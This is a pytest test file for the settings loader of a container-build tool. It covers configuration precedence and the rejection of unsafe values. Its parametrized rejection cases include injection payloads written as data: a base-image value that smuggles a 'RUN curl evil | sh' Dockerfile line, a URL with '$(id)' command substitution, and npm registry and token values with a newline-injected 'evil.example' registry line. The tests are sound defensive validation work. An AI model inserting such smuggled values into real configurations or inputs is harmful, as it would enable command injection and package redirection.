"""Settings: ATTUNE__CONTAINERS__* environment variables beat the TOML file, which beats defaults;
values that would reach a Dockerfile or pip are validated."""

from __future__ import annotations

import json
import os

import pytest
from pydantic import ValidationError

from attune_containers.settings import CONFIG_ENV, DEFAULT_BASE_IMAGES, ENV_PREFIX, Settings, config_file


@pytest.fixture(autouse=True)
def clean_env(monkeypatch, tmp_path):
    """No ATTUNE__ variables, config file or home directory from the caller leak in."""
    for key in list(os.environ):
        if key.startswith(ENV_PREFIX):
            monkeypatch.delenv(key)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def config(monkeypatch, tmp_path):
    """Write a TOML config file and point ATTUNE__CONTAINERS__CONFIG at it."""

    def write(text: str):
        path = tmp_path / "config.toml"
        path.write_text(text)
        monkeypatch.setenv(CONFIG_ENV, str(path))
        return path

    return write


def test_defaults_without_env_or_file():
    """With nothing configured, the documented defaults apply."""
    assert config_file() is None
    s = Settings()
    assert s.image_prefix == "attune-packs"
    assert s.base_images == DEFAULT_BASE_IMAGES
    assert s.installer == "pip"
    assert s.build_options().ca_bundle is None


def test_env_vars_are_read(monkeypatch):
    """Plain values and JSON-encoded nested values come from the environment."""
    bases = {"3.11": "attune-base/python:3.11", "3.13": "registry.local:5000/py@sha256:" + "a" * 64}
    monkeypatch.setenv("ATTUNE__CONTAINERS__IMAGE_PREFIX", "registry.local:5000/packs")
    monkeypatch.setenv("ATTUNE__CONTAINERS__BASE_IMAGES", json.dumps(bases))
    monkeypatch.setenv("ATTUNE__CONTAINERS__STRICT", "true")
    monkeypatch.setenv("ATTUNE__CONTAINERS__PIP_EXTRA_INDEX_URLS", '["https://extra.example/simple"]')
    s = Settings()
    assert s.image_prefix == "registry.local:5000/packs"
    assert s.base_images == bases
    assert s.requirement_policy().strict is True
    assert s.build_options().extra_index_urls == ("https://extra.example/simple",)


def test_config_file_is_read(config, tmp_path):
    """The TOML file named by ATTUNE__CONTAINERS__CONFIG is a source."""
    ca = tmp_path / "ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nX\n-----END CERTIFICATE-----\n")
    path = config(
        f'image_prefix = "from-file"\ninstaller = "uv"\nallow_pip_options = true\nca_bundle = "{ca}"\n'
        '[base_images]\n"3.11" = "attune-base/python:3.11"\n'
    )
    assert config_file() == path
    s = Settings()
    assert s.image_prefix == "from-file"
    assert s.installer == "uv"
    assert s.base_images == {"3.11": "attune-base/python:3.11"}
    assert s.requirement_policy().allow_pip_options is True
    options = s.build_options()
    assert options.installer == "uv"
    assert options.ca_bundle == ca.read_text()


def test_env_beats_file_and_init_beats_env(config, monkeypatch):
    """Precedence: code arguments > environment > file > defaults."""
    config('image_prefix = "from-file"\ninstaller = "uv"\n')
    monkeypatch.setenv("ATTUNE__CONTAINERS__IMAGE_PREFIX", "from-env")
    s = Settings()
    assert s.image_prefix == "from-env"
    assert s.installer == "uv"  # not overridden, still from the file
    assert Settings(image_prefix="from-init").image_prefix == "from-init"


def test_local_config_file_is_found(tmp_path):
    """Without the variable, ./attune-containers.toml is used."""
    (tmp_path / "attune-containers.toml").write_text('image_prefix = "local-file"\n')
    assert Settings().image_prefix == "local-file"


@pytest.mark.parametrize("installer", ["poetry", "PIP", "pip\n", ""])
def test_invalid_installer_is_refused(monkeypatch, installer):
    """Only pip and uv exist, from the environment or from code."""
    with pytest.raises(ValidationError):
        Settings(installer=installer)
    monkeypatch.setenv("ATTUNE__CONTAINERS__INSTALLER", installer)
    with pytest.raises(ValidationError):
        Settings()


@pytest.mark.parametrize(
    "bases",
    [
        {"3.11": "python:3.11-slim\nRUN curl evil | sh"},
        {"3.11": "python:3.11-slim AS x"},
        {"3.11": ""},
        {"3": "python:3-slim"},
        {"3.11.2": "python:3.11.2-slim"},
        {"latest": "python:latest"},
    ],
)
def test_invalid_base_images_are_refused(monkeypatch, bases):
    """A base image reference reaches FROM; newlines or junk must be refused at load time."""
    with pytest.raises(ValidationError):
        Settings(base_images=bases)
    monkeypatch.setenv("ATTUNE__CONTAINERS__BASE_IMAGES", json.dumps(bases))
    with pytest.raises(ValidationError):
        Settings()


def test_invalid_base_image_in_file_is_refused(config):
    """The file source is validated like the others."""
    config('[base_images]\n"3.11" = "python:3.11\\nRUN evil"\n')
    with pytest.raises(ValidationError):
        Settings()


@pytest.mark.parametrize("prefix", ["Attune", "a b", "a/", "/a", "a\nb", "a:b/c:d"])
def test_invalid_image_prefix_is_refused(prefix):
    """The prefix becomes part of every image name."""
    with pytest.raises(ValidationError):
        Settings(image_prefix=prefix)


@pytest.mark.parametrize("url", ["ftp://x", "https://x y", "https://x\n", "mirror.example/simple", "https://x'$(id)'"])
def test_invalid_index_urls_are_refused(url):
    """Index URLs reach the builder's env.sh; only plain http(s) URLs are accepted."""
    with pytest.raises(ValidationError):
        Settings(pip_index_url=url)
    with pytest.raises(ValidationError):
        Settings(pip_extra_index_urls=[url])


def test_base_images_given_above_replace_the_files_whole(config, monkeypatch):
    """A set of base images is one choice: env or code replace the file's, never add to it (a
    merge once let a test claim a shared host's base image it never meant to use)."""
    config('[base_images]\n"3.9" = "file/python:3.9"\n"3.11" = "file/python:3.11"\n')
    assert Settings().base_images == {"3.9": "file/python:3.9", "3.11": "file/python:3.11"}
    assert Settings(base_images={"3.13": "code/python:3.13"}).base_images == {"3.13": "code/python:3.13"}
    monkeypatch.setenv("ATTUNE__CONTAINERS__BASE_IMAGES", '{"3.12": "env/python:3.12"}')
    assert Settings().base_images == {"3.12": "env/python:3.12"}


def test_limits_merge_field_by_field_across_sources(config, monkeypatch):
    """Limits are single settings: the file's memory and the environment's CPUs both apply."""
    config('[limits]\nmemory = "512m"\n')
    monkeypatch.setenv("ATTUNE__CONTAINERS__LIMITS", '{"cpus": 2}')
    limits = Settings().limits
    assert (limits.memory, limits.cpus, limits.pids) == ("512m", 2.0, 128)


def test_an_unknown_key_in_the_config_file_is_an_error_naming_it(tmp_path, monkeypatch):
    config = tmp_path / "config.toml"
    config.write_text('image_prefix = "mine"\nimage_prefx = "typo"\n')
    monkeypatch.setenv("ATTUNE__CONTAINERS__CONFIG", str(config))
    with pytest.raises(ValueError, match=r"unknown setting image_prefx in the config file"):
        Settings()
    config.write_text('image_prefix = "mine"\n')
    assert Settings().image_prefix == "mine"


def test_a_named_config_file_that_does_not_exist_is_an_error(tmp_path, monkeypatch):
    monkeypatch.setenv("ATTUNE__CONTAINERS__CONFIG", str(tmp_path / "missing.toml"))
    with pytest.raises(ValueError, match="missing.toml .* does not exist"):
        Settings()


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("https://npm.corp.example/repo", "https://npm.corp.example/repo/"),
        ("https://npm.corp.example:8443/", "https://npm.corp.example:8443/"),
    ],
)
def test_the_npm_registry_is_an_https_url_ending_in_a_slash(given, kept):
    s = Settings(npm_registry_url=given)
    assert s.npm_registry_url == kept and s.build_options().npm_registry == kept


@pytest.mark.parametrize(
    "given",
    [
        "http://npm.corp.example/",  # a token would travel in clear, and the lock admits https tarballs only
        "https://user:secret@npm.corp.example/",
        "https://secret@npm.corp.example/",
        "https://npm.corp.example/?token=secret",
        "https://npm.corp.example/#x",
        "https://npm.corp.example:port/",
        "https://",
        "ftp://npm.corp.example/",
        "https://npm.corp.example/\nregistry=https://evil.example/",
        "https://npm.corp.example/ x",
    ],
)
def test_an_npm_registry_url_that_is_not_plain_https_is_refused(given):
    with pytest.raises(ValidationError, match="npm_registry_url"):
        Settings(npm_registry_url=given)


def test_the_npm_token_is_read_at_each_fetch_so_replacing_the_file_rotates_it(tmp_path):
    from attune_containers.errors import BuildError

    path = tmp_path / "npm-token"
    s = Settings(npm_token_file=path)
    with pytest.raises(BuildError, match="cannot read npm_token_file"):
        s.npm_token()
    path.write_text("npm_first\n")
    assert s.npm_token() == "npm_first"
    path.write_text("npm_second")
    assert s.npm_token() == "npm_second"
    assert Settings().npm_token() is None


@pytest.mark.parametrize("text", ["", "two words", "npm_a\nregistry=https://evil.example/", "${HOME}", "é"])
def test_an_npm_token_that_could_be_more_than_one_npmrc_value_is_refused_without_being_quoted(tmp_path, text):
    from attune_containers.errors import BuildError

    path = tmp_path / "npm-token"
    path.write_text(text)
    with pytest.raises(BuildError, match="does not hold one token") as caught:
        Settings(npm_token_file=path).npm_token()
    assert not text.strip() or text not in str(caught.value)
